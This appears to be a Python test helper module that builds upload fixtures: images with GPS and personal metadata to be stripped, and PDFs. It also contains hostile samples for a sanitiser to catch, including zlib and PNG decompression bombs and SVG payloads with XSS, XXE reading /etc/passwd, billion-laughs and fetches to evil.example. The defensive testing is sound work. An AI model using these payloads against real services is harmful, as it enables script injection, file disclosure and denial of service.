"""Files made for the upload tests (images, PDFs, SVGs, bombs) and helpers that read what was stored; shared
by test_files.py and test_uploads.py."""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

from PIL import ExifTags, Image
from reportlab.lib.pagesizes import A4
from reportlab.pdfgen import canvas

MIB = 1024 * 1024


def stored_path(key: str | None) -> Path:
    """The file a storage key names in the tests' folder store."""
    from services.common import storage

    assert key is not None, "no file"
    path = storage.current().local_path(key)
    assert path is not None, "not a folder store"
    return path


def image_at(path: Path) -> Image.Image:
    return Image.open(io.BytesIO(path.read_bytes()))


def rgb(image: Image.Image, xy: tuple[int, int]) -> tuple[int, ...]:
    value = image.convert("RGB").getpixel(xy)
    assert isinstance(value, tuple)
    return value


def stored_files(media: Path) -> list[Path]:
    return sorted(p for p in media.rglob("*") if p.is_file())


def png_bytes(size: tuple[int, int] = (64, 48), color: tuple[int, int, int] = (200, 30, 30)) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", "Nguyễn Văn A, 0912 345 678")  # a text chunk that must not survive
    out = io.BytesIO()
    Image.new("RGB", size, color).save(out, "PNG", pnginfo=info)
    return out.getvalue()


def jpeg_with_gps(orientation: int = 1) -> bytes:
    image = Image.new("RGB", (80, 60), (20, 120, 200))
    image.paste((250, 250, 0), (0, 0, 40, 30))
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "SecretCam"
    exif[ExifTags.Base.Orientation] = orientation
    gps = exif.get_ifd(ExifTags.IFD.GPSInfo)
    gps[ExifTags.GPS.GPSLatitudeRef] = "N"
    gps[ExifTags.GPS.GPSLatitude] = (10.0, 45.0, 30.0)
    gps[ExifTags.GPS.GPSLongitudeRef] = "E"
    gps[ExifTags.GPS.GPSLongitude] = (106.0, 40.0, 0.0)
    out = io.BytesIO()
    image.save(out, "JPEG", quality=90, exif=exif, comment=b"shot at home")
    data = out.getvalue()
    assert b"SecretCam" in data
    assert Image.open(io.BytesIO(data)).getexif().get_ifd(ExifTags.IFD.GPSInfo)
    return data


def reportlab_pdf(pages: int = 2, pagesize: tuple[float, float] = A4) -> bytes:
    out = io.BytesIO()
    pdf = canvas.Canvas(out, pagesize=pagesize, invariant=True)
    for number in range(1, pages + 1):
        pdf.setFillColorRGB(0.1, 0.5, 0.2)
        pdf.rect(40, 40, 200, 120, fill=1)
        pdf.drawString(60, 200, f"Bánh phồng Sơn Đốc - page {number}")
        pdf.showPage()
    pdf.save()
    return out.getvalue()


def raw_pdf(objects: list[bytes]) -> bytes:
    """A PDF of the given objects (1 0 obj is the catalog), with a correct cross-reference table."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


def pdf_with_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count),
    ]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 100 100] >>"] * count
    return raw_pdf(objects)


def zlib_bomb(mebibytes: int) -> bytes:
    """A zlib stream of `mebibytes` MiB of spaces in about 1/1000 of that: one byte-aligned deflate block
    repeated (a full flush resets the window, so every block is the same), with the right Adler-32."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    chunk = b" " * MIB
    first = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    body = first + block * (mebibytes - 1) + compressor.flush()
    adler = 1
    for _ in range(mebibytes):
        adler = zlib.adler32(chunk, adler)
    return b"\x78\xda" + body + struct.pack(">I", adler)


def pdf_zlib_bomb(mebibytes: int) -> bytes:
    stream = zlib_bomb(mebibytes)
    return raw_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
        ]
    )


def png_bomb(width: int = 30_000, height: int = 30_000) -> bytes:
    """A 1-bit PNG of width x height black pixels: ~110 MB of rows in a few hundred kilobytes."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    compressor = zlib.compressobj(9)
    rows = (b"\x00" + b"\x00" * ((width + 7) // 8)) * 100
    idat = b"".join(compressor.compress(rows) for _ in range(height // 100)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", idat) + chunk(b"IEND", b"")


CLEAN_SVG = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    "<!-- Generator: Adobe Illustrator 27.0 -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 300 200">'
    "<style>.a{fill:url(#g)} .b{font-family:'\\5FAE\\8F6F\\96C5\\9ED1'}</style>"
    '<defs><linearGradient id="g"><stop offset="0" stop-color="#f00"/></linearGradient></defs>'
    '<g inkscape:label="Lớp 1 (image (2))"><rect class="a" width="300" height="200" clip-path="url(#g)"/>'
    '<use xlink:href="#g"/><image width="1" height="1" href="data:image/png;base64,iVBORw0KGgo="/>'
    '<text x="10" y="20" class="b">Bánh phồng</text></g></svg>'
).encode()


ACTIVE_SVGS = {
    "script": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    "onload": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="1" height="1"/></svg>',
    "onclick upper case": b'<svg xmlns="http://www.w3.org/2000/svg"><rect ONCLICK="alert(1)"/></svg>',
    "external image": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><image href="http://evil.example/track.png"/></svg>'
    ),
    "external xlink image": (
        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        b'<image xlink:href="https://evil.example/a.png"/></svg>'
    ),
    "javascript link": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href=" java\tscript:alert(1)"><text>x</text></a></svg>'
    ),
    "svg data url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><use href="data:image/svg+xml;base64,PHN2Zz4="/></svg>'
    ),
    "css url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="fill: url( \'http://evil.example/x\' )"/></svg>'
    ),
    "css escaped url": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><style>rect{fill:\\75 rl(//evil.example/x)}</style></svg>'
    ),
    "css import": b'<svg xmlns="http://www.w3.org/2000/svg"><style>@import "https://e.example/a.css";</style></svg>',
    "image-set": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><rect style="cursor:image-set(\'https://e.example/c.png\' 1x)"/>'
        b"</svg>"
    ),
    "foreignObject": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><div xmlns="http://www.w3.org/1999/xhtml">'
        b"<iframe src='https://evil.example'/></div></foreignObject></svg>"
    ),
    "html element": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="#x"/></svg>'
    ),
    "animation rewriting href": (
        b'<svg xmlns="http://www.w3.org/2000/svg"><a href="#x"><set attributeName="href" to="javascript:alert(1)"/>'
        b"<text>x</text></a></svg>"
    ),
    "stylesheet instruction": (
        b'<?xml-stylesheet href="https://evil.example/a.css"?><svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
    "external entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"><text>&xxe;</text></svg>'
    ),
    "billion laughs": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY lol "lol">'
        + b"".join(
            b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
            for i in range(1, 10)
        )
        + b']><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>'
    ),
    "parameter entity": (
        b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY % ext SYSTEM "http://evil.example/x.dtd"> %ext;]>'
        b'<svg xmlns="http://www.w3.org/2000/svg"/>'
    ),
}
